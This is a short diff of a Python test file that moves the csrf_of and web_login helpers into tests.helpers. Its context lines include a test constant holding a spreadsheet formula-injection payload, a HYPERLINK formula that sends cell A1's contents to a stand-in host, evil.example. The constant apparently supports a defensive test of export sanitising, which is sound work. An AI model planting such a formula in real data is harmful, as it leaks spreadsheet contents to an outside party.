@@ -14,8 +14,7 @@ from api.core.jobs import JobBuffer
 from api.models import Suggestion
 from api.models.enums import Role
 from tests import factories
-from tests.frontend.test_pages import csrf_of, web_login
-from tests.helpers import register
+from tests.helpers import csrf_of, register, web_login
 from tests.samples import VISION_NEED, VISION_OFFER
 
 FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Clicca qui")'
